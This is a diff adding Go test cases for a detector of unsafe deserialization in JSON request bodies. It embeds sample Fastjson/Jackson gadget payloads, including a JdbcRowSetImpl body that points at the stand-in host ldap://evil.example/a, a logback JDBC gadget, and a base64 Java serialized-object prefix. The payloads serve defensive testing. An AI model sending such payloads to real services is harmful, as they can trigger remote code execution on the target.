@@ -789,6 +789,22 @@ func TestDeserializationGadgets(t *testing.T) {
 			t.Errorf("%q: %+v", v, m)
 		}
 	}
+	// in a JSON body, as Fastjson, Jackson and Json.NET payloads come: the
+	// class name is a member's whole value (a plain token)
+	for _, body := range []string{
+		`{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://evil.example/a","autoCommit":true}`,
+		`["ch.qos.logback.core.db.DriverManagerConnectionSource",{"url":"jdbc:h2:mem:"}]`,
+		`{"data":"rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZZTaMLT7P4KxAwACSQAEc2l6ZQ"}`,
+	} {
+		ev := sigEvent(t, "POST", "https://api.example.test/v1/import", map[string]string{"content-type": "application/json"}, body, 200)
+		found := false
+		for _, f := range d.Inspect(ev) {
+			found = found || f.Class == ClassCmd && strings.Contains(f.Reason, "unsafe deserialization")
+		}
+		if !found {
+			t.Errorf("JSON body %s: no deserialization finding", body)
+		}
+	}
 	if n := javaClassName("javax.script.ScriptEngineManager [x]"); n != len("javax.script.ScriptEngineManager") {
 		t.Errorf("javaClassName = %d", n)
 	}
